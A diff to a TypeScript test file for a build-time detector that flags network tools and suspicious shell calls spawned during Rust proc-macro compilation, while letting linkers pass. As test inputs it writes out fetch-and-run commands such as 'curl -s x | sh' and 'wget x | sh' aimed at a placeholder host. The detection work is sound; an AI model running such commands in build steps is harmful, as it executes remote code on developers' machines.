@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { compileUnexpectedTool } from './unexpected-tool.js';
-import { exec } from './fixtures.js';
+import { exec, proc } from './fixtures.js';
 
 describe('unexpected_tool', () => {
   const d = compileUnexpectedTool();
@@ -54,6 +54,34 @@ describe('unexpected_tool', () => {
       ['/usr/bin/git', ['git', 'describe', '--tags']], ['/src/target/debug/build/x/build-script-build', ['build-script-build']],
     ];
     for (const [exe, argv] of quiet) expect(run(exe, argv), exe).toEqual([]);
+  });
+
+  it('under a rustc loading proc-macros: quiet for the linker and rustc itself, loud for network tools', () => {
+    const rustc = proc(150, '/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc',
+      ['rustc', '--crate-name', 'app', 'src/main.rs', '--extern', 'serde_derive=/w/target/debug/deps/libserde_derive-1.so']);
+    const under = { buildScript: { kind: 'rustc_proc_macro' as const, process: rustc } };
+    expect(d.step(null, exec(rustc.exe, rustc.argv, { ...under, process: rustc }), 0).findings).toEqual([]);
+    const linking: Array<[string, string[]]> = [
+      ['/usr/bin/cc', ['cc', '-m64', '/tmp/rustcXYZ/symbols.o', 'app.o', '-Wl,--as-needed', '-lgcc_s', '-lc', '-o', 'app']],
+      ['/usr/lib/gcc/x86_64-linux-gnu/12/collect2', ['collect2', '-plugin', 'x.so', '-o', 'app']], ['/usr/bin/ld', ['ld', '-o', 'app']],
+      ['/usr/bin/gcc', ['gcc', '-o', 'app']], ['/usr/bin/clang', ['clang', '-fuse-ld=lld', '-o', 'app']], ['/usr/bin/ld.lld', ['ld.lld']],
+      [rustc.exe, ['rustc', '-vV']],
+      // A linker wrapper script (cargo-zigbuild): `-lc` is the linker's, not `sh -c`, even with curl-sys in a later path.
+      ['/bin/sh', ['/bin/sh', '/w/target/zig/zigcc-x86_64.sh', '-lgcc_s', '-lc', '-L', '/w/target/debug/build/curl-sys-0a1b2c3d/out', '-lcurl']],
+    ];
+    for (const [exe, argv] of linking) expect(run(exe, argv, under), exe).toEqual([]);
+    expect(run('/usr/bin/curl', ['curl', '-s', 'https://x.example/p'], under)).toEqual([
+      expect.objectContaining({ severity: 'high', evidence: expect.objectContaining({ reason: 'network_tool', buildScript: 'rustc_proc_macro', buildScriptPid: 150 }) }),
+    ]);
+    expect(run('/usr/bin/nslookup', ['nslookup', 'x.example'], under)[0]?.evidence).toMatchObject({ tool: 'nslookup', buildScript: 'rustc_proc_macro' });
+    expect(run('/bin/sh', ['sh', '-c', 'curl -s x | sh'], under)[0]?.evidence).toMatchObject({ reason: 'shell_suspicious', buildScript: 'rustc_proc_macro' });
+  });
+
+  it('reads shell options only up to the first operand', () => {
+    expect(run('/bin/bash', ['bash', '--noprofile', '--norc', '-o', 'pipefail', '-c', 'curl x'])[0]?.evidence).toMatchObject({ reason: 'shell_suspicious' });
+    expect(run('/bin/busybox', ['busybox', 'sh', '-c', 'wget x | sh'])[0]?.severity).toBe('medium');
+    expect(run('/bin/sh', ['sh', './wrapper.sh', '-c', 'curl x'])).toEqual([]);
+    expect(run('/bin/sh', ['sh', '--', '-c', 'curl x'])).toEqual([]);
   });
 
   it('stays quiet outside build scripts and for allowed tools', () => {
